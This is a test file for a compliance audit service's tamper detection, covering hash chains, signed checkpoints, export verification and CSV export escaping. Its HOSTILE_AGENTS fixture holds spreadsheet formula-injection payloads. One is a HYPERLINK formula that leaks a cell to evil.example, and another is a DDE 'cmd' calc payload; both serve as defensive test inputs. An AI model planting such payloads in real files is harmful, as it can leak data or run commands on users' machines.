/**
 * Tampering and exports: one byte of a stored compliance event is
 * flipped in the SQLite file itself; the history endpoint's verification names the broken revision, a JSON
 * export taken before verifies (in code and with `npm run audit -- verify`), one taken after is refused
 * naming the stream and revision, and hand edits of an export are refused naming the first mismatch.
 * CSV exports: a header row, one row per event, RFC 4180 quoting and formula-injection escaping.
 */
import { execFile } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import {
  type AuditExport,
  type AuditHistory,
  DocumentType,
  type SignedCheckpoint,
  streams,
} from '@tickwise/contracts';
import {
  CHECKPOINT_HEAD_FILE,
  CHECKPOINT_KEY_FILE,
  CHECKPOINT_STREAM,
  type CheckpointKeys,
  checkpointHash,
  GENESIS_HASH,
  hashEnvelope,
  loadCheckpointKeys,
  loadServerConfig,
  openStorage,
  type Storage,
  signCheckpoint,
} from '@tickwise/platform';
import { createQueryApp, exportHashOf, queryServiceDeps, verifyExport } from '@tickwise/query-service';
import Database from 'better-sqlite3';
import request from 'supertest';
import {
  assessRisk,
  documentInForce,
  type Person,
  parseCsv,
  register,
  registerWithRole,
  type Stack,
  startStack,
  TEST_JWT_SECRET,
  testClock,
  view,
} from '../../../src/testing';

const run = promisify(execFile);
const ROOT = join(__dirname, '..', '..', '..', '..');
const files = mkdtempSync(join(tmpdir(), 'tickwise-exports-'));

/** One User-Agent per acknowledged document: each starts with a character a spreadsheet reads as a formula. */
const HOSTILE_AGENTS: Record<DocumentType, string> = {
  risk_disclosure: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  cftc_warning: "+1+cmd|' /C calc'!A0",
  educational_disclaimer: '-2+3',
  privacy_policy: '@SUM(1+1)',
};

const clock = testClock('2025-06-02T08:00:00.000Z');
let stack: Stack;
let auditor: Person;
let learner: Person;
let untouchedExport = '';
let tamperedStream = '';
let keys: CheckpointKeys;
const keyFile = join(files, 'checkpoint-key.pem');
/** Offline verification with the public key of the stack's checkpoints, as an auditor is given it. */
const verifyWithKey = (file: unknown) => verifyExport(file, keys);

beforeAll(async () => {
  stack = await startStack({ clock, publishContent: true, checkpoints: true });
  keys = loadCheckpointKeys({ dataDir: stack.dir, signingKey: undefined });
  writeFileSync(keyFile, keys.publicKeyPem);
  auditor = await registerWithRole(stack, 'auditor');
  learner = await register(stack, { label: 'tamper' });
  for (const type of DocumentType.values) await view(learner, type);
  clock.advance(12_000);
  for (const type of DocumentType.values) {
    const res = await learner.post(
      '/api/compliance/acknowledgment',
      { documentType: type, version: documentInForce(type).version },
      { 'User-Agent': HOSTILE_AGENTS[type] },
    );
    expect(res.status).toBe(201);
  }
  await assessRisk(learner);
  auditor.saw(learner.position);
  tamperedStream = streams.compliance(learner.userId);
  await stack.checkpoint();

  const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=json`);
  expect(res.status).toBe(200);
  untouchedExport = res.text;
});
afterAll(async () => {
  await stack?.close();
  rmSync(files, { recursive: true, force: true });
});

const parse = (text: string) => JSON.parse(text) as AuditExport;
const history = async () => {
  const res = await auditor.get(`/api/audit/learners/${learner.userId}/history`);
  expect(res.status).toBe(200);
  return res.body as AuditHistory;
};
let fileCount = 0;
const saved = (text: string) => {
  const file = join(files, `export-${++fileCount}.json`);
  writeFileSync(file, text);
  return file;
};
const auditCli = (file: string) =>
  run(
    process.execPath,
    ['--import', 'tsx', join(ROOT, 'query-service/src/audit/cli.ts'), 'verify', file, '--key', keyFile],
    { cwd: ROOT },
  );

/** Rewrites one stored event's data straight in the SQLite file, bypassing the event log. */
function rewriteStoredData(stream: string, revision: number, edit: (data: string) => string) {
  const db = new Database(join(stack.dir, 'events.db'));
  try {
    const row = db
      .prepare('SELECT data FROM events WHERE stream = ? AND revision = ?')
      .get(stream, revision) as { data: string } | undefined;
    if (!row) throw new Error(`no stored event ${stream}@${revision}`);
    const data = edit(row.data);
    expect(data).not.toBe(row.data);
    db.prepare('UPDATE events SET data = ? WHERE stream = ? AND revision = ?').run(data, stream, revision);
  } finally {
    db.close();
  }
}

/** Flips the lowest bit of one byte of a stored event's data, straight in the SQLite file. */
function flipByteOfStoredEvent(stream: string, revision: number) {
  rewriteStoredData(stream, revision, (stored) => {
    // A byte inside the content hash (a hex digit): flipping its lowest bit keeps the JSON readable.
    const index = stored.indexOf('"contentHash":"') + '"contentHash":"'.length + 10;
    const flipped = String.fromCharCode((stored.charCodeAt(index) ^ 1) & 0xff);
    const data = `${stored.slice(0, index)}${flipped}${stored.slice(index + 1)}`;
    JSON.parse(data);
    return data;
  });
}

/** Cuts the last character off a stored event's data: it no longer parses. */
const makeStoredEventUnreadable = (stream: string, revision: number) =>
  rewriteStoredData(stream, revision, (stored) => stored.slice(0, -1));

describe('before any tampering', () => {
  test('the history verifies every stream, every event against signed checkpoint #1', async () => {
    const { verification, checkpoint } = await history();
    expect(verification.length).toBeGreaterThan(0);
    expect(verification.every((v) => v.ok && v.brokenAtRevision === null && v.problem === null)).toBe(true);
    expect(verification.every((v) => v.signedEvents === v.events)).toBe(true);
    expect(checkpoint).toEqual({
      seq: 1,
      signedAt: expect.any(String),
      keyId: keys.keyId,
      problem: null,
      cosignedBy: [],
    });
  });

  test('the export carries the signed checkpoint and a proof of each stream head', () => {
    const file = parse(untouchedExport);
    expect(file.checkpoint?.signed.statement).toMatchObject({ seq: 1, keyId: keys.keyId });
    expect(file.checkpoint?.proofs.map((p) => p.head.stream)).toEqual(file.streams.map((s) => s.stream));
  });

  test('a JSON export is a download carrying the streams from revision 0 and an export hash', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="tickwise-history-${learner.userId}-2025-06-02\\.json"$`),
    );
    const file = parse(untouchedExport);
    expect(file.kind).toBe('learner-history');
    expect(file.generatedBy).toBe(auditor.userId);
    expect(file.exportHash).toMatch(/^[0-9a-f]{64}$/);
    const compliance = file.streams.find((s) => s.stream === tamperedStream);
    expect(compliance?.events.map((e) => e.revision)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
    // Each stream's head as exported: how many events and the hash of the last one.
    expect(file.heads).toEqual(
      file.streams.map((s) => ({
        stream: s.stream,
        events: s.events.length,
        lastHash: s.events[s.events.length - 1]?.metadata.hash,
      })),
    );
  });

  test('the untouched export verifies with verifyExport', () => {
    expect(verifyWithKey(parse(untouchedExport))).toEqual({
      ok: true,
      summary: expect.stringMatching(
        /^verified: 6 streams, (\d+) events, 9 report events, export hash ok; signed checkpoint #1 of \S+ \(key [0-9a-f]{16}…\) covers \1 events$/,
      ),
    });
  });

  test('and with the CLI: `npm run audit -- verify <file>` exits 0', async () => {
    const { stdout } = await auditCli(saved(untouchedExport));
    expect(stdout).toMatch(/^verified: 6 streams/);
  }, 30_000);
});

describe('an export edited by hand is refused, naming the first mismatch', () => {
  const edited = (edit: (file: AuditExport) => void) => {
    const file = parse(untouchedExport);
    edit(file);
    return verifyWithKey(file);
  };
  const storedEvents = (file: AuditExport) => {
    const found = file.streams.find((s) => s.stream === tamperedStream);
    if (!found) throw new Error('the export has no compliance stream');
    return found.events;
  };
  const problem = (result: ReturnType<typeof verifyExport>) => (result.ok ? 'ok' : result.problem);

  test('a field of the report (the compliance state) → the state does not replay from the streams', () => {
    expect(
      problem(
        edited((file) => {
          if ('state' in file.report) file.report.state.isCompliant = false;
        }),
      ),
    ).toMatch(/^report\.state is not what the exported streams replay to/);
  });

  test('an edited state with a recomputed export hash is still refused: the report must replay from the streams', () => {
    const file = parse(untouchedExport);
    if ('state' in file.report) file.report.state.isCompliant = !file.report.state.isCompliant;
    const { exportHash: _old, ...body } = file;
    const rehashed = { ...body, exportHash: exportHashOf(body) };
    expect(problem(verifyWithKey(rehashed))).toMatch(
      /^report\.state is not what the exported streams replay to/,
    );
  });

  test('a report event that no longer matches the stored event it cites → that report event is named', () => {
    const result = edited((file) => {
      if ('events' in file.report) {
        const cited = file.report.events[5];
        if (cited?.type === 'DocumentAcknowledged') cited.data.secondsRead += 100;
      }
    });
    expect(problem(result)).toBe(
      `report.events[5] (${tamperedStream} revision 5) does not match the stored event`,
    );
  });

  test('a stored event → its stream and revision (the first one when several were changed)', () => {
    const result = edited((file) => {
      const events = storedEvents(file);
      for (const revision of [6, 4]) {
        const event = events[revision];
        if (event) event.data = { ...(event.data as object), ip: '203.0.113.66' };
      }
    });
    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 4: `));
  });

  test("a stored event's metadata (who acted) → its stream and revision", () => {
    const result = edited((file) => {
      const event = storedEvents(file)[3];
      if (event) event.metadata = { ...event.metadata, actor: 'someone-else' };
    });
    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 3: `));
  });

  test('a stored event removed from the middle of a stream → the revision where the gap is', () => {
    const result = edited((file) => {
      storedEvents(file).splice(2, 1);
    });
    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 2: `));
  });

  // A chain verifies from revision 0, so a stream cut short at its tail is still a valid chain: the head the
  // export recorded for it (covered by the export hash) is what catches it.
  test('the last event of a stream cut off (its chain still verifies) → the stream and its missing tail', () => {
    const file = parse(untouchedExport);
    const lastHash = storedEvents(file)[8]?.metadata.hash;
    const newLast = storedEvents(file)[7]?.metadata.hash;
    storedEvents(file).pop();
    expect(problem(verifyWithKey(file))).toBe(
      `stream ${tamperedStream} holds 8 events ending in ${String(newLast)}, but was exported with 9 ending in ${String(lastHash)}: events are missing from its tail`,
    );
  });

  test('an export as of before the last event, its tail cut off and the export hash recomputed → the missing tail is named', async () => {
    // As of the views, before the acknowledgments and the risk assessment.
    const asOf = String(storedEvents(parse(untouchedExport))[3]?.metadata.occurredAt);
    const res = await auditor.get(
      `/api/audit/learners/${learner.userId}/export?asOf=${encodeURIComponent(asOf)}`,
    );
    expect(res.status).toBe(200);
    const file = parse(res.text);
    expect(verifyWithKey(file).ok).toBe(true);
    expect('events' in file.report && file.report.events.map((e) => e.revision)).toEqual([0, 1, 2, 3]);
    // The report does not cite the last event and replays the same without it: only the head tells.
    storedEvents(file).pop();
    const { exportHash: _old, ...body } = file;
    expect(problem(verifyWithKey({ ...body, exportHash: exportHashOf(body) }))).toMatch(
      new RegExp(`^stream ${tamperedStream} holds 8 events .*: events are missing from its tail$`),
    );
    // Its head rewritten as well (and the hash recomputed again): the report's verification still counts 9.
    body.heads = body.heads.map((h) =>
      h.stream === tamperedStream
        ? { ...h, events: 8, lastHash: String(storedEvents(file)[7]?.metadata.hash) }
        : h,
    );
    // The signed checkpoint holds the stream's head at revision 8: the cut tail is named again.
    expect(problem(verifyWithKey({ ...body, exportHash: exportHashOf(body) }))).toBe(
      `stream ${tamperedStream}: its tail was cut off: the signed checkpoint covers revisions 0 to 8, the log holds 8 events`,
    );
  });

  test('a whole stream left out → its recorded head names it', () => {
    const result = edited((file) => {
      file.streams = file.streams.filter((s) => s.stream !== 'catalog-document-privacy_policy');
    });
    expect(problem(result)).toBe(
      'heads names stream catalog-document-privacy_policy, which the file does not hold',
    );
  });

  test('an export without the streams’ heads is refused', () => {
    const result = edited((file) => {
      delete (file as Partial<AuditExport>).heads;
    });
    expect(problem(result)).toMatch(/^the file has no "heads" list/);
  });

  test('the export hash itself → the export hash does not match', () => {
    expect(
      problem(
        edited((file) => {
          file.exportHash = `${file.exportHash.slice(0, 63)}${file.exportHash.endsWith('0') ? '1' : '0'}`;
        }),
      ),
    ).toMatch(/^exportHash does not match/);
  });

  test('something that is not an export at all', () => {
    expect(problem(verifyWithKey('text'))).toBe('the file is not a JSON object');
    expect(problem(verifyWithKey({ report: {} }))).toBe('the file has no "streams" list');
  });
});

describe('anchors: every export is recorded in the log with its hash (`npm run audit -- anchored <file>`)', () => {
  const anchoredCli = (file: string) =>
    run(
      process.execPath,
      ['--import', 'tsx', join(ROOT, 'query-service/src/audit/cli.ts'), 'anchored', file],
      {
        cwd: ROOT,
        env: { ...process.env, DATA_DIR: stack.dir },
      },
    );
  const exportEvents = async () =>
    (await stack.allEvents()).filter(
      (e) =>
        e.type === 'AuditorViewedRecords' && String((e.data as { view: string }).view).includes('export'),
    );

  test('the JSON export taken above is recorded with its exportHash in the auditor stream', async () => {
    const { exportHash } = parse(untouchedExport);
    const recorded = (await exportEvents()).map((e) => e.data as { exportHash?: string; view: string });
    expect(recorded).toContainEqual(expect.objectContaining({ view: 'export:json', exportHash }));
  });

  test('the CLI finds it: who exported which learner, when, and where the record is', async () => {
    const { stdout } = await anchoredCli(saved(untouchedExport));
    expect(stdout).toContain(`Anchored: exported by auditor ${auditor.userId}`);
    expect(stdout).toContain(`of learner ${learner.userId}`);
    expect(stdout).toContain(`recorded as ${streams.audit(auditor.userId)} revision`);
  }, 30_000);

  test('a CSV export is anchored by the SHA-256 of its bytes; one changed character is not', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
    expect(res.status).toBe(200);
    const file = join(files, 'history.csv');
    writeFileSync(file, res.text);
    await expect(anchoredCli(file)).resolves.toMatchObject({ stdout: expect.stringContaining('Anchored:') });
    writeFileSync(file, res.text.replace('risk_disclosure', 'risk_disclosurE'));
    await expect(anchoredCli(file)).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining('NOT ANCHORED'),
    });
  }, 60_000);

  test('a self-consistent export that Tickwise never issued (re-dated, hash recomputed) verifies offline but is not anchored', async () => {
    const { exportHash: _old, ...body } = parse(untouchedExport);
    const redated = { ...body, generatedAt: '2025-01-01T00:00:00.000Z' };
    const forged = JSON.stringify({ ...redated, exportHash: exportHashOf(redated) });
    const file = saved(forged);
    await expect(auditCli(file)).resolves.toMatchObject({ stdout: expect.stringMatching(/^verified/) });
    await expect(anchoredCli(file)).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining('NOT ANCHORED'),
    });
  }, 60_000);
});

/**
 * An attacker with write access to the database but not to the key: each attack on a COPY of the
 * stack's SQLite files (with its key and head file), served by a query service of its own. The hash chains
 * alone let every one of these pass; the signed checkpoint does not.
 */
describe('attacks on a copy of the database, checked against the signed checkpoints', () => {
  interface Copy {
    dir: string;
    storage: Storage;
    history(): Promise<AuditHistory>;
    exportFile(): Promise<string>;
    sql<T>(use: (db: Database.Database) => T): T;
    close(): Promise<void>;
  }
  const copies: Copy[] = [];
  afterAll(async () => {
    for (const copy of copies) await copy.close();
  });

  async function copyOfDatabase(): Promise<Copy> {
    const dir = mkdtempSync(join(tmpdir(), 'tickwise-copy-'));
    for (const name of ['events.db', 'read-models.db', 'keys.db']) {
      const live = new Database(join(stack.dir, name), { readonly: true });
      await live.backup(join(dir, name));
      live.close();
    }
    for (const name of [CHECKPOINT_KEY_FILE, CHECKPOINT_HEAD_FILE, 'master-key'])
      copyFileSync(join(stack.dir, name), join(dir, name));
    const storage = await openStorage({
      dataDir: dir,
      eventstoreUrl: undefined,
      mongoUrl: undefined,
      mongoDb: 'x',
    });
    const config = loadServerConfig({ DATA_DIR: dir, JWT_SECRET: TEST_JWT_SECRET });
    const deps = { ...queryServiceDeps(config, storage), logger: stack.queryDeps.logger, now: clock.now };
    const app = createQueryApp(deps).callback();
    const get = (path: string) => request(app).get(path).set('Authorization', `Bearer ${auditor.token}`);
    const copy: Copy = {
      dir,
      storage,
      async history() {
        const res = await get(`/api/audit/learners/${learner.userId}/history`);
        expect(res.status).toBe(200);
        return res.body as AuditHistory;
      },
      async exportFile() {
        const res = await get(`/api/audit/learners/${learner.userId}/export`);
        expect(res.status).toBe(200);
        return saved(res.text);
      },
      sql(use) {
        const db = new Database(join(dir, 'events.db'));
        try {
          return use(db);
        } finally {
          db.close();
        }
      },
      async close() {
        await storage.close();
        rmSync(dir, { recursive: true, force: true });
      },
    };
    copies.push(copy);
    return copy;
  }

  const complianceOf = (history: AuditHistory) =>
    history.verification.find((v) => v.stream === tamperedStream);

  /** Deletes the newest event of a stream, straight in the SQLite file. */
  const deleteNewest = (copy: Copy, stream: string) =>
    copy.sql((db) =>
      db
        .prepare(
          'DELETE FROM events WHERE stream = ? AND revision = (SELECT MAX(revision) FROM events WHERE stream = ?)',
        )
        .run(stream, stream),
    );

  test('untouched, the copy verifies as the original does', async () => {
    const copy = await copyOfDatabase();
    const history = await copy.history();
    expect(complianceOf(history)).toMatchObject({ ok: true, events: 9, signedEvents: 9, problem: null });
    expect(history.checkpoint).toMatchObject({ seq: 1, problem: null });
  });

  test('(a) the newest event of a stream deleted: its chain still verifies, the signed head names the cut tail', async () => {
    const copy = await copyOfDatabase();
    deleteNewest(copy, tamperedStream);
    const history = await copy.history();
    expect(complianceOf(history)).toEqual({
      stream: tamperedStream,
      ok: false,
      events: 8,
      brokenAtRevision: 8,
      signedEvents: 0,
      problem: 'its tail was cut off: the signed checkpoint covers revisions 0 to 8, the log holds 8 events',
    });
    expect(history.verification.filter((v) => !v.ok).map((v) => v.stream)).toEqual([tamperedStream]);
    await expect(auditCli(await copy.exportFile())).rejects.toMatchObject({
      code: 1,
      stdout: `NOT VERIFIED: stream ${tamperedStream}: its tail was cut off: the signed checkpoint covers revisions 0 to 8, the log holds 8 events\n`,
    });
  }, 30_000);

  test('(b) an event edited and every later hash recomputed with the public algorithm: the chain verifies, the signed head does not match', async () => {
    const copy = await copyOfDatabase();
    copy.sql((db) => {
      const rows = db
        .prepare(
          'SELECT event_id, revision, type, data, metadata FROM events WHERE stream = ? ORDER BY revision',
        )
        .all(tamperedStream) as Array<{
        event_id: string;
        revision: number;
        type: string;
        data: string;
        metadata: string;
      }>;
      let prevHash = GENESIS_HASH;
      for (const row of rows) {
        const data = JSON.parse(row.data);
        if (row.revision === 5) data.secondsRead += 600;
        const { hash: _old, ...metadata } = JSON.parse(row.metadata);
        const hash = hashEnvelope({
          eventId: row.event_id,
          stream: tamperedStream,
          revision: row.revision,
          type: row.type,
          data,
          metadata: { ...metadata, prevHash },
        });
        db.prepare('UPDATE events SET data = ?, metadata = ? WHERE stream = ? AND revision = ?').run(
          JSON.stringify(data),
          JSON.stringify({ ...metadata, prevHash, hash }),
          tamperedStream,
          row.revision,
        );
        prevHash = hash;
      }
    });
    const history = await copy.history();
    expect(complianceOf(history)).toEqual({
      stream: tamperedStream,
      ok: false,
      events: 9,
      brokenAtRevision: null,
      signedEvents: 0,
      problem:
        'revision 8 is not the event the signed checkpoint holds: events up to it were changed and their hashes recomputed',
    });
    await expect(auditCli(await copy.exportFile())).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining(`NOT VERIFIED: stream ${tamperedStream}: revision 8 is not the event`),
    });
  }, 30_000);

  test('(c) a forged checkpoint over the cut stream (signed with another key) is refused; the cut is still named', async () => {
    const copy = await copyOfDatabase();
    deleteNewest(copy, tamperedStream);
    const [first] = await copy.storage.log.readStream(CHECKPOINT_STREAM);
    const genuine = first?.data as { statement: SignedCheckpoint['statement']; signature: string };
    const [, seventh] = await copy.storage.log.readStream(tamperedStream, { fromRevision: 6, maxCount: 2 });
    const other = generateKeyPairSync('ed25519');
    const forged = signCheckpoint(
      { ...genuine.statement, seq: 2, previous: checkpointHash(genuine) },
      { privateKey: other.privateKey },
    );
    await copy.storage.log.appendToStream(
      CHECKPOINT_STREAM,
      [
        {
          type: 'LogCheckpointSigned',
          data: {
            ...forged,
            heads: [{ stream: tamperedStream, revision: 7, hash: String(seventh?.metadata.hash) }],
          },
          metadata: {
            correlationId: 'x',
            causationId: 'x',
            actor: 'system:checkpoints',
            occurredAt: clock.now().toISOString(),
            schemaVersion: 1,
          },
        },
      ],
      { expectedRevision: 0 },
    );
    const history = await copy.history();
    expect(history.checkpoint).toMatchObject({
      seq: 1,
      problem: `checkpoint #2 (${CHECKPOINT_STREAM} revision 1) is not signed by this Tickwise's checkpoint key (a forged or foreign checkpoint)`,
    });
    expect(complianceOf(history)).toMatchObject({
      ok: false,
      problem: expect.stringMatching(/^its tail was cut off/),
    });

    // Offline: an export whose checkpoint was swapped for the forged one (export hash recomputed) is refused.
    const { exportHash: _old, ...body } = parse(untouchedExport);
    const swapped = { ...body, checkpoint: { signed: forged, proofs: [] } };
    expect(verifyWithKey({ ...swapped, exportHash: exportHashOf(swapped) })).toEqual({
      ok: false,
      problem: `the signed checkpoint #2 is not signed by the given key ${keys.keyId.slice(0, 16)}…: a forged checkpoint, or another Tickwise's`,
    });
  });

  test('(d) the newest checkpoints deleted from the database: the head file kept outside it names what is missing', async () => {
    await stack.checkpoint();
    expect((await (await copyOfDatabase()).history()).checkpoint).toMatchObject({ seq: 2, problem: null });
    // A fresh copy: its query service reads the checkpoints for the first time after the deletion.
    const copy = await copyOfDatabase();
    copy.sql((db) =>
      db.prepare('DELETE FROM events WHERE stream = ? AND revision >= 1').run(CHECKPOINT_STREAM),
    );
    expect((await copy.history()).checkpoint).toEqual({
      seq: 1,
      signedAt: expect.any(String),
      keyId: keys.keyId,
      problem:
        "the database's newest signed checkpoint is #1, but the head file kept outside it records #2: signed checkpoints were deleted from the database (or it was restored from an older copy)",
      cosignedBy: [],
    });
  });

  test('events appended after the newest checkpoint are reported as not yet covered, not as verified', async () => {
    const copy = await copyOfDatabase();
    await copy.storage.log.appendToStream(
      tamperedStream,
      [
        {
          type: 'ComplianceDocumentViewed',
          data: {
            documentType: 'risk_disclosure',
            version: '1.0',
            contentHash: 'a'.repeat(64),
            viewedAt: clock.now().toISOString(),
          },
          metadata: {
            correlationId: 'later',
            causationId: 'later',
            actor: learner.userId,
            occurredAt: clock.now().toISOString(),
            schemaVersion: 1,
          },
        },
      ],
      { expectedRevision: 8 },
    );
    expect(complianceOf(await copy.history())).toMatchObject({
      ok: true,
      events: 10,
      signedEvents: 9,
      problem: null,
    });
    const { stdout } = await auditCli(await copy.exportFile());
    expect(stdout).toMatch(
      new RegExp(`; not yet covered by a signed checkpoint: ${tamperedStream} revision 9\\n$`),
    );
  }, 30_000);

  test('the public key: GET /api/log/checkpoint-key (public) and `npm run audit -- key` give the same', async () => {
    const res = await stack.client().get('/api/log/checkpoint-key');
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ algorithm: 'Ed25519', keyId: keys.keyId, publicKey: keys.publicKeyPem });
    const { stdout } = await run(
      process.execPath,
      ['--import', 'tsx', join(ROOT, 'query-service/src/audit/cli.ts'), 'key'],
      { cwd: ROOT, env: { ...process.env, DATA_DIR: stack.dir } },
    );
    expect(stdout).toBe(
      `Ed25519 public key ${keys.keyId} (verifies this Tickwise's signed checkpoints):\n${keys.publicKeyPem}`,
    );
  }, 30_000);
});

describe('after a byte of compliance revision 2 was flipped in the SQLite file', () => {
  let afterTampering = '';
  beforeAll(async () => {
    flipByteOfStoredEvent(tamperedStream, 2);
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
    expect(res.status).toBe(200);
    afterTampering = res.text;
  });

  test('the history endpoint says that stream is broken at revision 2, every other stream ok', async () => {
    const verification = (await history()).verification;
    expect(verification.find((v) => v.stream === tamperedStream)).toEqual({
      stream: tamperedStream,
      ok: false,
      events: 9,
      brokenAtRevision: 2,
      signedEvents: 0,
      problem: 'revision 2: content does not match its hash',
    });
    const others = verification.filter((v) => v.stream !== tamperedStream);
    expect(others).toHaveLength(5);
    expect(others.every((v) => v.ok && v.brokenAtRevision === null)).toBe(true);
  });

  test('the export taken before still verifies (it holds the original events)', () => {
    expect(verifyWithKey(parse(untouchedExport)).ok).toBe(true);
  });

  test('an export taken after is refused by verifyExport, naming the stream and revision', () => {
    const result = verifyWithKey(parse(afterTampering));
    expect(result.ok).toBe(false);
    expect(result.ok ? '' : result.problem).toMatch(
      new RegExp(`^stream ${tamperedStream}, revision 2: content does not match its hash$`),
    );
  });

  test('and by the CLI, with exit code 1', async () => {
    await expect(auditCli(saved(afterTampering))).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining(`NOT VERIFIED: stream ${tamperedStream}, revision 2`),
    });
  }, 30_000);
});

describe('CSV exports', () => {
  const HEADER = [
    'occurredAt',
    'type',
    'stream',
    'revision',
    'documentType',
    'version',
    'contentHash',
    'viewedAt',
    'acknowledgedAt',
    'secondsRead',
    'ip',
    'userAgent',
    'consentText',
    'details',
    'prevHash',
    'hash',
  ];

  test('a history: text/csv download, a header row and one row per event of the replay', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="tickwise-history-.+\.csv"$/);
    expect(res.text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual(HEADER);
    const events = (await history()).events;
    expect(rows.map((r) => [r[1], r[2], r[3], r[15]])).toEqual(
      events.map((e) => [e.type, e.stream, String(e.revision), e.hash]),
    );
    expect(rows.every((r) => r.length === HEADER.length)).toBe(true);
  });

  test('as of a moment: only the events up to it', async () => {
    const asOf = new Date(Date.parse('2025-06-02T08:00:00.000Z') + 1000).toISOString();
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv&asOf=${asOf}`);
    const [, ...rows] = parseCsv(res.text);
    expect(rows.map((r) => r[1])).toEqual(DocumentType.values.map(() => 'ComplianceDocumentViewed'));
  });

  test('a value starting with = + - or @ is escaped with a leading quote; quotes and commas survive RFC 4180', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
    const [header, ...rows] = parseCsv(res.text);
    const column = (name: string) => header?.indexOf(name) ?? -1;
    const acknowledgments = rows.filter((r) => r[column('type')] === 'DocumentAcknowledged');
    expect(acknowledgments.map((r) => [r[column('documentType')], r[column('userAgent')]])).toEqual(
      DocumentType.values.map((type) => [type, `'${HOSTILE_AGENTS[type]}`]),
    );
    // No cell anywhere starts with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});

// Last, as it leaves the stream unreadable: after the flipped byte, stored events that cannot be read at all.
describe('then stored events that can no longer be read at all', () => {
  test('a later event unreadable: the history still names the first broken revision, 2', async () => {
    makeStoredEventUnreadable(tamperedStream, 7);
    const verification = (await history()).verification;
    expect(verification.find((v) => v.stream === tamperedStream)).toMatchObject({
      stream: tamperedStream,
      ok: false,
      events: 7,
      brokenAtRevision: 2,
    });
  });

  test('revision 2 unreadable: the history names it; an export (holding the readable events before it) is refused', async () => {
    makeStoredEventUnreadable(tamperedStream, 2);
    expect((await history()).verification.find((v) => v.stream === tamperedStream)).toMatchObject({
      stream: tamperedStream,
      ok: false,
      events: 2,
      brokenAtRevision: 2,
      problem: 'revision 2 cannot be read',
    });
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
    expect(res.status).toBe(200);
    const file = parse(res.text);
    expect(file.streams.find((s) => s.stream === tamperedStream)?.events).toHaveLength(2);
    expect(verifyWithKey(file)).toEqual({
      ok: false,
      problem: `stream ${tamperedStream}: its tail was cut off: the signed checkpoint covers revisions 0 to 8, the log holds 2 events`,
    });
  });
});
